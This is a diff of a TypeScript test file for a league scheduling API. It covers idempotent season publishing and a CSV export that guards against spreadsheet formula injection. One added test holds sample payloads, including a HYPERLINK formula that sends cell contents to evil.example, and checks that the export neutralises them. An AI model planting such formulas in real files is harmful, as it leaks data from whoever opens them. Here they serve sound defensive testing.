@@ -1,14 +1,16 @@
 // Issue 19: the season builder's routes (preview, publish with Idempotency-Key, the overlap 409),
 // the referees' unavailable dates, the CSV export's round trip through the import, and every class
 // of bad input.
+import { parse } from 'csv-parse/sync';
 import { eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { ImportResult } from '../../../common/import/sports-connect';
 import { BookingIndex, gameLengthMs } from '../../../common/schedule/booking';
 import type { SeasonBodyInput, SeasonOverlapErrorBody, SeasonPreviewDto, SeasonPublishDto } from '../../../common/schemas/schedule';
+import { GAMES_TEXT } from '../../../common/schemas/games/texts';
 import { SERVER_TEXT } from '../../../common/texts';
 import { utcToWallClock } from '../../../common/time';
-import { fields, games, leagues, teams } from '../../db/schema';
+import { fields, games, leagues, teams, users } from '../../db/schema';
 import { buildLeague, buildUser, signIn, startTestServer, type ApiClient, type BuiltUser, type TestServer } from '../../test/helpers';
 import type { League } from '../leagues/store';
 
@@ -80,6 +82,10 @@ describe('POST /api/leagues/{slug}/schedule/preview and /publish', () => {
     const again = await s.admin.request<SeasonPublishDto>('POST', path(s, 'publish'), bodyOf(s), { headers });
     expect(again.status).toBe(201);
     expect(again.headers.get('idempotent-replayed')).toBe('true');
+    // the same key with another body: 422, nothing published
+    const reused = await s.admin.request<{ message: string }>('POST', path(s, 'publish'), bodyOf(s, { rounds: 1, startDate: '2027-03-06' }), { headers });
+    expect(reused.status).toBe(422);
+    expect(reused.body.message).toBe(GAMES_TEXT.idempotencyKeyReused);
     const rows = await leagueGames(s.league.id);
     expect(rows).toHaveLength(56);
     noDoubleBooking(rows);
@@ -211,6 +217,13 @@ describe('GET /api/leagues/{slug}/schedule.csv', () => {
     return { status: res.status, body: (await res.json()) as ImportResult };
   }
 
+  const names = async (leagueId: number) => {
+    const teamNames = new Map((await server.deps.db.select().from(teams).where(eq(teams.leagueId, leagueId))).map((t) => [t.id, t.name]));
+    return (await leagueGames(leagueId))
+      .map((g) => `${teamNames.get(g.homeTeamId)} v ${teamNames.get(g.awayTeamId)} ${g.scheduledDate.toISOString()} ${g.field} ${g.status} ${g.homeScore}-${g.awayScore}`)
+      .sort();
+  };
+
   it("writes the season in the import's columns: exported, then imported into an empty league, every game comes back", async () => {
     const s = await season();
     expect((await s.admin.post(path(s, 'publish'), bodyOf(s))).status).toBe(201);
@@ -229,12 +242,31 @@ describe('GET /api/leagues/{slug}/schedule.csv', () => {
     expect(imported.status).toBe(200);
     expect(imported.body).toMatchObject({ teamsCreated: 8, fieldsCreated: 4, gamesCreated: 56, errors: [] });
 
-    const names = async (leagueId: number) => {
-      const teamNames = new Map((await server.deps.db.select().from(teams).where(eq(teams.leagueId, leagueId))).map((t) => [t.id, t.name]));
-      return (await leagueGames(leagueId))
-        .map((g) => `${teamNames.get(g.homeTeamId)} v ${teamNames.get(g.awayTeamId)} ${g.scheduledDate.toISOString()} ${g.field} ${g.status} ${g.homeScore}-${g.awayScore}`)
-        .sort();
-    };
+    expect(await names(empty.id)).toEqual(await names(s.league.id));
+  });
+
+  it("writes a cell a spreadsheet would run as a formula with a leading ' (OWASP), and the import takes it off again", async () => {
+    const s = await season();
+    const formula = '=HYPERLINK("http://evil.example/?d="&A2,"Click")';
+    const renamed = [formula, '+1 Tigers', '-Lions', '@Bears'];
+    for (const [i, name] of renamed.entries()) await server.deps.db.update(teams).set({ name }).where(eq(teams.id, s.teamIds[i]!));
+    await server.deps.db.update(fields).set({ name: '@SUM(A1:A9)' }).where(eq(fields.id, s.fieldIds[3]!));
+    for (const referee of s.refereeUsers) await server.deps.db.update(users).set({ firstName: formula, lastName: '' }).where(eq(users.id, referee.id));
+    expect((await s.admin.post(path(s, 'publish'), bodyOf(s))).status).toBe(201);
+    const res = await fetch(`${server.url}/api/leagues/${s.league.slug}/schedule.csv`, { headers: { cookie: s.admin.cookie ?? '' } });
+    const csv = await res.text();
+    const cells = parse(csv) as string[][];
+    const written = new Set(cells.slice(1).flatMap((row) => [row[3], row[4], row[8], row[12]]));
+    for (const name of [...renamed, '@SUM(A1:A9)']) {
+      expect(written).toContain(`'${name}`);
+      expect(written).not.toContain(name);
+    }
+    expect(cells.slice(1).every((row) => row[12] === `'${formula}`)).toBe(true);
+
+    const empty = await buildLeague(server, { timezone: 'America/New_York' });
+    const emptyAdmin = await signIn(server, await buildUser(server, { role: 'admin', league: empty }), empty.slug);
+    const imported = await importInto(emptyAdmin, empty.slug, csv);
+    expect(imported.body).toMatchObject({ teamsCreated: 8, fieldsCreated: 4, gamesCreated: 56, errors: [] });
     expect(await names(empty.id)).toEqual(await names(s.league.id));
   });
 });
